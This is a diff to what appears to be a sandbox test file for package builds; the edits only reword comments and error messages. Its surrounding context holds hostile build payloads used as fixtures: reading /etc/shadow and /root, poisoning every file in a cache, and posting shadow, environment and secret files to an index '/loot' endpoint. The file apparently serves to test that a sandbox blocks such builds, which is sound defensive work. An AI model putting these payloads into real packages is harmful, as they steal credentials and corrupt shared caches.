@@ -39,13 +39,13 @@ return got
     )
 
 
-# --- run by the build of a source package, where that is allowed
+# --- run by the build of a source package, where builds are allowed
 
 PYTHON_BUILDS: dict[str, str] = {
     "shadow": "return open('/etc/shadow').read()",
     "root_home": "import os\nreturn os.listdir('/root')",
     "database": "return open('{home}/state.db').read()",
-    "data_folder": (  # the folder of wheels is mounted where it is
+    "data_folder": (  # the folder of wheels is mounted at its own path
         "import os\ngot = set(os.listdir('{home}')) - {{'wheels'}}\n"
         "assert got, 'nothing'\nreturn got"
     ),
@@ -163,7 +163,7 @@ for above, folders, names in os.walk('/cache'):
         path = os.path.join(above, name)
         try: open(path, 'ab').write(b'# poisoned')
         except OSError: pass
-raise PermissionError('it is the cache of this account and of builds alone')
+raise PermissionError('a build may change the cache of its own account')
 """,
     "send_home": """
 import os, urllib.request
@@ -172,7 +172,7 @@ for path in ('/etc/shadow', '{home}/state.db', '/proc/1/environ', '/run/secrets'
     try: text += open(path).read()
     except OSError: pass
 urllib.request.urlopen('{index}/loot', data=text.encode()[:100000], timeout=10)
-raise PermissionError('it may talk to the index, of what it has')
+raise PermissionError('a build may send what it can read to the index')
 """,
 }
 
@@ -325,7 +325,7 @@ NODE_BUILDS: dict[str, str] = {
 
 
 def tar(entries: list[tuple[str, bytes | str, str]]) -> bytes:
-    """A package of npm's: (kind, content or target, path)."""
+    """A package for npm; an entry is (kind, content or target, path)."""
     out = io.BytesIO()
     with tarfile.open(fileobj=out, mode="w:gz") as archive:
         for kind, content, path in entries:
@@ -357,7 +357,7 @@ NODE_TARBALLS: dict[str, list[tuple[str, bytes | str, str]]] = {
     "gyp": [("file", "{{'targets': [{{'target_name': 'x'}}]}}", "package/binding.gyp")],
 }
 
-# fields of package.json: nothing that they name may be fetched or run
+# fields of package.json; nothing that these packages name may be fetched or run
 NODE_PACKAGES: dict[str, dict[str, object]] = {
     "hooks": {
         "scripts": dict.fromkeys(
